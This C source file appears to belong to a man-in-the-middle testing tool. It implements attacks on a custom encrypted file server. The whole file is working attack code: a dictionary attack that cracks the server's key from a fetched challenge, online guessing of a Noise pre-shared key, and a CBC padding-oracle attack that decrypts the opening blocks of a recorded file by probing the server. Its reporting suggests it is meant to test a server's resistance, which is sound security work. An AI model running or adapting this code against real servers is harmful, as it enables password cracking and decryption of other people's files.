/* Attacks on a file server that ask it: the key, and what was recorded. See mitm_ft.h. */
#include "../crypto/noise.h"
#include "ft_founding.h"
#include "mitm_relay.h"

enum {
	ASK_MS = 10000,       /* for one connection */
	GUESS_MS = 2000,      /* against noise, where no list ever comes to its end */
	ORACLE_BLOCKS = 2,    /* that are read */
	NOISE_HELLO = 2 + 48, /* message 1 behind its length: a key and a tag */
	NOISE_QUESTIONS = 64,
	PAUSE = 65536 /* words between two looks at whether to go on */
};

static const uint8_t zero_iv[FT_IV];

static void tell(const struct mitm *m, const char *attack, bool won, const char *text)
{
	if (m->ear.result != NULL) {
		m->ear.result(m->ear.arg, 0, attack, won, text);
	}
}

/* Call the server, say this, and hear up to n bytes; *got: how many came. 0, or -1. */
static int ask(struct conn *c, const struct mitm *m, const void *p, size_t p_n, uint8_t *answer,
	size_t n, size_t *got, struct err *e)
{
	if (conn_dial(c, m->host, m->port, e) != 0) {
		return -1;
	}
	c->stop_fd = m->stop_fd;
	conn_deadline(c, ASK_MS);
	if (conn_write(c, p, p_n, e) != 0) {
		return -1;
	}
	(void)conn_read_exact(c, answer, n, got, NULL);
	return 0;
}

/* A handshake for this cipher, in the clear. */
static void write_hello(uint8_t out[static FT_HEADER + FT_HANDSHAKE_BYTES], uint8_t cipher)
{
	memset(out, 0, FT_HEADER + FT_HANDSHAKE_BYTES);
	out[7] = FT_HANDSHAKE_BYTES;
	out[FT_HEADER] = cipher;
}

/* --- ft-guess --- */

/* The next line of the words. false: there is none. */
static bool next_word(struct cursor *c, struct ft_secret *s)
{
	const uint8_t *line;
	size_t n;

	while (get_line(c, &line, &n)) {
		if (n > 0 && n <= sizeof s->text) {
			memcpy(s->text, line, n);
			s->n = n;
			return true;
		}
	}
	return false;
}

/* Is this the key of a challenge? Its second block is padding, and padding is known. */
static bool opens(
	uint8_t cipher, const struct ft_secret *s, const uint8_t challenge[static FT_RESPONSE])
{
	uint8_t key[FT_KEY_MAX], block[AES_BLOCK];
	struct cbc c;

	(void)cbc_init(&c, key, ft_founding_key((enum ft_cipher)cipher, s, key), challenge);
	memcpy(block, challenge + FT_NONCE, AES_BLOCK);
	cbc_decrypt(&c, block, AES_BLOCK);
	return aes_padding(block) == AES_BLOCK;
}

/* Does the server take it? */
static bool logs_in(const struct mitm *m, uint8_t cipher, const struct ft_secret *s, struct err *e)
{
	uint8_t hello[FT_HEADER + FT_HANDSHAKE_BYTES], number[FT_NONCE], *p;
	static struct ft_founding f;
	size_t padding, got, n;
	struct conn c;
	bool ok = false;

	write_hello(hello, cipher);
	if (ask(&c, m, hello, sizeof hello, NULL, 0, &got, e) == 0) {
		ft_founding_begin(&f, &c);
		ft_founding_seal(&f, (enum ft_cipher)cipher, s, zero_iv);
		if (ft_founding_get_number(&f, number, &padding, &got, e) == 0) {
			ft_founding_next_number(number);
			ok = ft_founding_put_number(&f, number, e) == 0 &&
			     ft_founding_expect(&f, FT_CONFIRMATION, &p, &n, e) == 0 && p[0] == 1;
		}
	}
	conn_close(&c);
	return ok;
}

/* A challenge, with the cipher that the server allows. 1, 0: it gives none, or -1. */
static int get_challenge(
	const struct mitm *m, uint8_t *cipher, uint8_t challenge[static FT_RESPONSE], struct err *e)
{
	uint8_t hello[FT_HEADER + FT_HANDSHAKE_BYTES];
	size_t got = 0;

	for (*cipher = FT_AES256; *cipher >= FT_AES128; --*cipher) {
		struct conn c;
		write_hello(hello, *cipher);
		int rc = ask(&c, m, hello, sizeof hello, challenge, FT_RESPONSE, &got, e);
		conn_close(&c);
		if (rc != 0 || got == FT_RESPONSE) {
			return rc != 0 ? -1 : 1;
		}
	}
	return 0;
}

static int guess_founding(const struct mitm *m, struct err *e)
{
	struct cursor words = cursor_over(m->words->p, m->words->n);
	uint8_t challenge[FT_RESPONSE], cipher;
	struct ft_secret s;
	char text[1200];
	unsigned long long n = 0;
	bool found = false;
	int rc = get_challenge(m, &cipher, challenge, e);

	if (rc <= 0) {
		tell(m, "ft-guess", false, "the server gives no challenge");
		return rc;
	}
	int64_t began = conn_now_ms();
	while (!found && next_word(&words, &s) && (n % PAUSE != 0 || !mitm_is_stopping(m, 0))) {
		found = opens(cipher, &s, challenge);
		n++;
	}
	double seconds = (double)(conn_now_ms() - began + 1) / 1000;
	found = found && logs_in(m, cipher, &s, e);
	if (found) {
		(void)snprintf(text, sizeof text,
			"the key is \"%.*s\", and the server takes it: %llu words, %.0f a second",
			(int)s.n, (const char *)s.text, n, (double)n / seconds);
	} else {
		(void)snprintf(text, sizeof text, "none of %llu words, %.0f a second", n,
			(double)n / seconds);
	}
	tell(m, "ft-guess", found, text);
	wipe(&s, sizeof s);
	return 0;
}

/* Message 1 under a psk; the server answers only where it is the right one. 1, 0 or -1. */
static int takes_psk(const struct mitm *m, const uint8_t psk[static FT_PSK], struct err *e)
{
	uint8_t prologue[FT_PREFACE_BYTES + FT_SALT], message[NOISE_HELLO], answer[2];
	const struct noise_setup setup = {.pattern = "NNpsk0",
		.initiator = true,
		.prologue = prologue,
		.prologue_n = sizeof prologue,
		.psks = {psk}};
	struct noise noise;
	struct conn c;
	size_t got, n;
	int rc = -1;

	memcpy(prologue, FT_PREFACE, FT_PREFACE_BYTES);
	if (ask(&c, m, prologue, FT_PREFACE_BYTES, prologue + FT_PREFACE_BYTES, FT_SALT, &got, e) ==
			0 &&
		noise_begin(&noise, &setup, e) == 0 &&
		noise_write(&noise, NULL, 0, message + 2, sizeof message - 2, &n, e) == 0) {
		message[0] = (uint8_t)(n >> 8);
		message[1] = (uint8_t)n;
		rc = conn_write(&c, message, 2 + n, e);
		if (rc == 0) {
			(void)conn_read_exact(&c, answer, sizeof answer, &got, NULL);
			rc = got > 0 ? 1 : 0;
		}
	}
	conn_close(&c);
	wipe(&noise, sizeof noise);
	return rc;
}

static int guess_noise(const struct mitm *m, struct err *e)
{
	struct cursor words = cursor_over(m->words->p, m->words->n);
	uint8_t salt[FT_SALT], psk[FT_PSK];
	struct ft_secret s;
	struct conn c;
	char text[400];
	unsigned n = 0;
	size_t got = 0;
	int rc = ask(&c, m, FT_PREFACE, FT_PREFACE_BYTES, salt, sizeof salt, &got, e), found = 0;

	conn_close(&c);
	if (rc != 0 || got < sizeof salt) {
		return rc == 0 ? err_set(e, EX_PROTOCOL, "the server gives no salt") : -1;
	}
	int64_t began = conn_now_ms();
	while (found == 0 && conn_now_ms() - began < GUESS_MS && next_word(&words, &s)) {
		found = ft_psk(&s, salt, psk, e) == 0 ? takes_psk(m, psk, e) : -1;
		n++;
	}
	double seconds = (double)(conn_now_ms() - began + 1) / 1000;
	(void)snprintf(text, sizeof text,
		found > 0 ? "word %u is the key: %.0f a second"
		: cursor_left(&words) > 0
			? "none of the first %u words; one Argon2id each, from a capture, too: "
			  "%.0f a second; the rest was left"
			: "none of %u words; one Argon2id each, from a capture, too: %.0f a second",
		n, n / seconds);
	if (found >= 0) {
		tell(m, "ft-guess", found > 0, text);
	}
	wipe(&s, sizeof s);
	wipe(psk, sizeof psk);
	return found < 0 ? -1 : 0;
}

int mitm_ft_guess(const struct mitm *m, struct err *e)
{
	return m->enhanced ? guess_noise(m, e) : guess_founding(m, e);
}

/* --- ft-oracle --- */

int mitm_ft_record(struct relay *r, struct mitm_message *m, struct err *e)
{
	struct buf *kept = &r->mine->kept[MITM_CLIENT];

	mitm_ft_follow(r, m);
	if (m->from == MITM_CLIENT && kept->n < MITM_FT_RECORDING &&
		buf_append(kept, m->bytes.p, m->bytes.n) != 0) {
		return err_set(e, EX_TEMPFAIL, "out of memory");
	}
	return 0;
}

struct oracle {
	const struct mitm *m;
	uint8_t cipher;
	unsigned questions;
};

/* Does the server take the padding of these two blocks? Then it says that the number is wrong. 1, 0
 * or -1. */
static int has_padding(struct oracle *o, const uint8_t blocks[static FT_RESPONSE], struct err *e)
{
	uint8_t hello[FT_HEADER + FT_HANDSHAKE_BYTES], answer[FT_RESPONSE];
	struct conn c;
	size_t got;
	int rc;

	o->questions++;
	write_hello(hello, o->cipher);
	rc = ask(&c, o->m, hello, sizeof hello, answer, sizeof answer, &got, e);
	rc = rc == 0 ? conn_write(&c, blocks, FT_RESPONSE, e) : -1;
	if (rc == 0) {
		(void)conn_read_exact(&c, answer, 1, &got, NULL);
		rc = got > 0 ? 1 : 0;
	}
	conn_close(&c);
	return rc;
}

/* A longer padding may have come about by chance: then the byte ahead of the last one counts. */
static int confirm_last(struct oracle *o, uint8_t blocks[static FT_RESPONSE], struct err *e)
{
	blocks[AES_BLOCK - 2] ^= 1;
	int rc = has_padding(o, blocks, e);
	blocks[AES_BLOCK - 2] ^= 1;
	return rc;
}

/* What the cipher makes of a block, backwards: found from the last byte on, by the first block
 * under which the second has a padding of one byte more. 0, or -1. */
static int undo_block(struct oracle *o, const uint8_t block[static AES_BLOCK],
	uint8_t out[static AES_BLOCK], struct err *e)
{
	uint8_t blocks[FT_RESPONSE] = {0};

	memcpy(blocks + AES_BLOCK, block, AES_BLOCK);
	for (size_t i = AES_BLOCK; i-- > 0;) {
		uint8_t pad = (uint8_t)(AES_BLOCK - i);
		int found = 0;
		for (size_t k = i + 1; k < AES_BLOCK; k++) {
			blocks[k] = out[k] ^ pad;
		}
		for (unsigned guess = 0; found == 0 && guess < 256; guess++) {
			blocks[i] = (uint8_t)guess;
			found = has_padding(o, blocks, e);
			if (found > 0 && i == AES_BLOCK - 1) {
				found = confirm_last(o, blocks, e);
			}
		}
		if (found <= 0) {
			return found < 0 ? -1
					 : err_set(e, EX_PROTOCOL,
						   "the server takes none of 256 paddings");
		}
		out[i] = blocks[i] ^ pad;
	}
	return 0;
}

/* The file's first blocks, as far as there are some. */
static int read_blocks(struct relay *r, struct oracle *o, struct buf *text, struct err *e)
{
	const struct buf *kept = &r->mine->kept[MITM_CLIENT];
	size_t at = (size_t)r->mine->ft.data_at + FT_SEALED_HEADER;
	uint8_t plain[AES_BLOCK];

	for (int i = 0; i < ORACLE_BLOCKS && at + AES_BLOCK <= kept->n; i++, at += AES_BLOCK) {
		if (undo_block(o, kept->p + at, plain, e) != 0) {
			return -1;
		}
		for (size_t k = 0; k < AES_BLOCK; k++) {
			plain[k] ^= kept->p[at - AES_BLOCK + k];
		}
		if (buf_append(text, plain, AES_BLOCK) != 0) {
			return err_set(e, EX_TEMPFAIL, "out of memory");
		}
	}
	return 0;
}

/* On noise: does the server tell one changed message 1 from another? */
static int ask_noise(struct relay *r, struct oracle *o, unsigned *answered, struct err *e)
{
	const struct buf *kept = &r->mine->kept[MITM_CLIENT];
	uint8_t message[NOISE_HELLO], answer[FT_SALT];
	size_t got;

	if (kept->n < FT_PREFACE_BYTES + NOISE_HELLO) {
		return err_set(e, EX_PROTOCOL, "the recording has no handshake");
	}
	while (o->questions < NOISE_QUESTIONS) {
		struct conn c;
		memcpy(message, kept->p + FT_PREFACE_BYTES, sizeof message);
		message[sizeof message - 1] ^= (uint8_t)(1 + o->questions++);
		int rc =
			ask(&c, o->m, FT_PREFACE, FT_PREFACE_BYTES, answer, sizeof answer, &got, e);
		if (rc == 0 && got < sizeof answer) {
			rc = err_set(e, EX_PROTOCOL, "the server gives no salt");
		}
		rc = rc == 0 ? conn_write(&c, message, sizeof message, e) : rc;
		if (rc == 0) {
			(void)conn_read_exact(&c, answer, 1, &got, NULL);
			*answered += got > 0 ? 1 : 0;
		}
		conn_close(&c);
		if (rc != 0) {
			return -1;
		}
	}
	return 0;
}

void mitm_ft_oracle(struct relay *r)
{
	const struct mitm_ft *f = &r->mine->ft;
	struct oracle o = {.m = r->m};
	struct buf text = {0};
	struct err e = {0};
	char shown[4 * ORACLE_BLOCKS * AES_BLOCK + 1];
	unsigned answered = 0;
	int rc;

	if (!f->founding) {
		rc = ask_noise(r, &o, &answered, &e);
		relay_result(r, rc == 0 && answered > 0,
			rc == 0 ? "%u of %u changed messages were answered: there is nothing to "
				  "tell apart"
				: "the server could not be asked",
			answered, o.questions);
		return;
	}
	if (!f->begun) {
		relay_result(r, false, "no file was written over this connection");
		return;
	}
	o.cipher = r->mine->kept[MITM_CLIENT].p[FT_HEADER];
	rc = read_blocks(r, &o, &text, &e);
	if (rc == 0 && text.n > 0) {
		(void)escape_text(shown, sizeof shown, text.p, text.n, false);
		relay_result(r, true, "the recorded file begins \"%s\": %u questions, no key",
			shown, o.questions);
	} else {
		relay_result(r, false, "the server gave nothing away: %s", e.text);
	}
	buf_free(&text);
}
